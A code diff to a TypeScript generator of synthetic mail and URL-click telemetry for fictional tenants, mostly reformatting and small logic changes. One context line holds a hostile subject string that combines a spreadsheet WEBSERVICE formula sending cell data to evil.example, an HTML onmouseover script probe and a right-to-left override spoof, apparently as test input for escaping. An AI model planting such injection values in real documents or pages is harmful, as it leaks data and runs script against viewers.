@@ -6,7 +6,16 @@ import type { PlannedEvent, TelemetryTable, Tenant } from './telemetry.ts';
 import { campaignsOn, drawCampaignInstant, drawDailyCount, drawInstant, rowStream } from './telemetry.ts';
 
 /** Kinds of messages: the direction, or the threat and what became of it. */
-const mailKinds = ['inbound-clean', 'outbound', 'internal', 'spam-junked', 'spam-blocked', 'phish-blocked', 'phish-delivered', 'malware-blocked'] as const;
+const mailKinds = [
+  'inbound-clean',
+  'outbound',
+  'internal',
+  'spam-junked',
+  'spam-blocked',
+  'phish-blocked',
+  'phish-delivered',
+  'malware-blocked',
+] as const;
 type MailKind = (typeof mailKinds)[number];
 const phishDelivered = mailKinds.indexOf('phish-delivered');
 
@@ -23,8 +32,21 @@ const kindWeights = [
 
 const partners = ['fabrikam.example', 'adatum.example', 'litware.example', 'proseware.example', 'tailspin.example'] as const;
 const bulkSenders = ['offers.example', 'newsletter.example', 'win-now.example'] as const;
-const subjects = ['Minutes of the meeting', 'Updated planning', 'Invoice attached', 'Question about the order', 'Re: delivery dates', 'Quarter figures', 'Lunch?'] as const;
-const phishSubjects = ['Your password expires today', 'Parcel on hold: confirm address', 'New benefits: sign in to view', 'Shared document waiting for you'] as const;
+const subjects = [
+  'Minutes of the meeting',
+  'Updated planning',
+  'Invoice attached',
+  'Question about the order',
+  'Re: delivery dates',
+  'Quarter figures',
+  'Lunch?',
+] as const;
+const phishSubjects = [
+  'Your password expires today',
+  'Parcel on hold: confirm address',
+  'New benefits: sign in to view',
+  'Shared document waiting for you',
+] as const;
 const hostileSubject = '=WEBSERVICE("https://evil.example/?"&A1) <b onmouseover=alert(1)>RE: \u202etnuocca</b>';
 
 export const emailEvents: TelemetryTable = {
@@ -32,7 +54,7 @@ export const emailEvents: TelemetryTable = {
   kinds: mailKinds,
   plan(day, tenant) {
     const random = tenant.context.random.split('plan', 'EmailEvents', day.date);
-    const count = drawDailyCount(tenant, day, random, 980, 0.2);
+    const count = drawDailyCount(tenant, day, random, 940, 0.2);
     const events: PlannedEvent[] = [];
     for (let sequence = 0; sequence < count; sequence++) {
       events.push({ atMs: drawInstant(tenant, day, random, 'office'), kind: random.pickWeighted<number>(kindWeights), sequence });
@@ -56,7 +78,9 @@ export const emailEvents: TelemetryTable = {
       NetworkMessageId: mail.id,
       SenderFromAddress: mail.sender,
       SenderFromDomain: senderDomain,
-      SenderDisplayName: kind === 'phish-delivered' || kind === 'phish-blocked' ? 'Service desk' : senderName,
+      ...(mail.urlCount === 0 && !verdict.threat.startsWith('Phish')
+        ? {}
+        : { SenderDisplayName: verdict.threat.startsWith('Phish') ? 'Service desk' : senderName }),
       RecipientEmailAddress: mail.recipient.upn,
       Subject: mail.subject,
       EmailDirection: kind === 'outbound' ? 'Outbound' : kind === 'internal' ? 'Intra-org' : 'Inbound',
@@ -69,7 +93,9 @@ export const emailEvents: TelemetryTable = {
   },
 };
 
-const verdicts: Readonly<Record<MailKind, { readonly action: string; readonly location: string; readonly threat: string; readonly methods: string }>> = {
+const verdicts: Readonly<
+  Record<MailKind, { readonly action: string; readonly location: string; readonly threat: string; readonly methods: string }>
+> = {
   'inbound-clean': { action: 'Delivered', location: 'Inbox/folder', threat: '', methods: '' },
   outbound: { action: 'Delivered', location: 'On-premises/external', threat: '', methods: '' },
   internal: { action: 'Delivered', location: 'Inbox/folder', threat: '', methods: '' },
@@ -172,7 +198,8 @@ export const urlClickEvents: TelemetryTable = {
     const random = rowStream(tenant, 'UrlClickEvents', day, event.sequence);
     const mail = isHarmless ? undefined : makeMail(tenant, day, { ...event, kind: phishDelivered });
     const user = mail?.recipient ?? random.pick(tenant.organization.users);
-    const url = mail === undefined ? `https://${random.pick(partners)}/portal` : `https://${mail.sender.split('@')[1]}/login?u=${random.hex(8)}`;
+    const url =
+      mail === undefined ? `https://${random.pick(partners)}/portal` : `https://${mail.sender.split('@')[1]}/login?u=${random.hex(8)}`;
     return {
       TimeGenerated: utcText(event.atMs),
       AccountUpn: user.upn,
